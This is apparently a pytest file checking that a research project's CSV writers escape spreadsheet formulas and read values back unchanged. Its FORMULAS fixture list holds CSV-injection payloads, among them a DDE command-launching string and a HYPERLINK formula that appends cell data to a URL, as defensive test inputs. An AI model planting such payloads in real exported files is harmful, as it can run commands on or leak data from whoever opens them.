"""No cell of our CSV files is computed by a spreadsheet, and our readers find what was written."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pandas as pd
import pytest
from matplotlib.figure import Figure

from silmm import csv_files
from silmm.report import style, table_1, tables
from silmm.report.benchmark_table import COLUMNS, Line, to_csv
from silmm.report.summarize import GAINS, table
from silmm.stages import agreement

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1, "open")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    " =1+1", "'=1+1", "''=1+1", "-cmd|' /C calc'!A0", "\uff1d1+1", "--", "=a\n=b",
]  # fmt: skip
PLAIN = [
    "color",
    "a\rb",
    "a\r\nb",
    "",
    "-",
    "-1",
    "+2.5e-3",
    "'s",
    "a=b",
    "o'clock",
    "-inf",
    "é",
    "a, b",
    'say "a"',
    " x",
    "'",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def computed(cell: str) -> bool:
    """Whether a spreadsheet may take it for a formula: what its manuals say starts one, and no number."""
    try:
        float(cell)
    except ValueError:
        return cell.strip(" ")[:1] in tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20") and len(cell.strip()) > 1
    return False


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_a_text_is_shown_and_comes_back(text: str) -> None:
    cell = csv_files.quoted(text)
    assert not computed(cell)
    assert csv_files.unquoted(cell) == text
    assert (cell != text) == (text in FORMULAS)


def test_numbers_stay_numbers() -> None:
    text = csv_files.to_csv(["a", "b", "c", "d", "e"], [[-0.5, -1, math.nan, -0.00001, -math.inf]], ".4f")
    assert text == "a,b,c,d,e\n-0.5000,-1,,0.0000,-inf\n"


@pytest.mark.parametrize("text", FORMULAS)
def test_every_table_is_written_and_read_through_one_writer(text: str, tmp_path: Path) -> None:
    line = Line("tifa", text, "official", text, -0.25, math.nan, 0.5, 1, 2, text, text)
    frame = pd.DataFrame({"name": [text], "value": [-0.5], "n": [-1]})
    people = [(text, text, text, "spearman", -0.5, math.nan, 0.5, 3, 3)]
    row = dict.fromkeys(GAINS, text) | {"value": -0.5, "iteration": 1}
    (tmp_path / "scores.csv").write_text(to_csv([line]), encoding="utf-8", newline="")
    csv_files.write_frame(frame, tmp_path / "figure.csv")
    agreement._write(tmp_path / "agreement.csv", people)
    (tmp_path / "gains.csv").write_text(table(GAINS, [row]), encoding="utf-8", newline="")
    for path in tmp_path.iterdir():
        with path.open(encoding="utf-8", newline="") as stream:
            head, *body = csv.reader(stream)
        assert body and not [cell for row in body for cell in row if computed(cell)], path
        first = csv_files.read_texts(path)
        assert list(first.columns) == head
        assert text in first.iloc[0].tolist(), path
    read = table_1._read(tmp_path / "scores.csv")
    assert tuple(read.columns) == COLUMNS
    assert read.iloc[0][["lmm", "category", "judge", "standing"]].tolist() == [text] * 4 and read.score[0] == -0.25
    numbers = {name: 1 for name in GAINS if name not in tables._TEXTS}
    (tmp_path / "gains.csv").write_text(table(GAINS, [row | numbers]), encoding="utf-8", newline="")
    assert tables.read(tmp_path / "gains.csv", GAINS).arm.tolist() == [text]


def test_figures_write_theirs_so(tmp_path: Path) -> None:
    style.save(Figure(), pd.DataFrame({"arm": ["=1+1"], "value": [0.1234567]}), tmp_path / "figure")
    assert (tmp_path / "figure.csv").read_bytes() == b"arm,value\n'=1+1,0.123457\n"
